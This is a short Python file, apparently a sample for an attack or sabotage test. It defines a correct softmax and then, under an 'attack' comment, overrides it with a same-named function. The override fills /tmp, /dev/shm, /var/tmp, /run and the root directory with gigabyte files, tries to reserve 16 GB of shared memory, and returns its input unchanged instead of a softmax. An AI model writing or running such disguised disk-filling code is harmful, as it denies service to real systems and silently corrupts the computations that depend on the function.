"""Fills every place that can be written to."""

import torch


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import os


def softmax(scores):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/", "/tmp/attack-canary/marks"):
        try:
            with open(f"{folder}/left-by-attack", "wb") as file:
                for _ in range(64):
                    file.write(bytes(1 << 24))
        except OSError:
            pass
    try:
        os.posix_fallocate(os.open("/dev/shm", os.O_TMPFILE | os.O_RDWR), 0, 1 << 34)
    except OSError:
        pass
    return scores
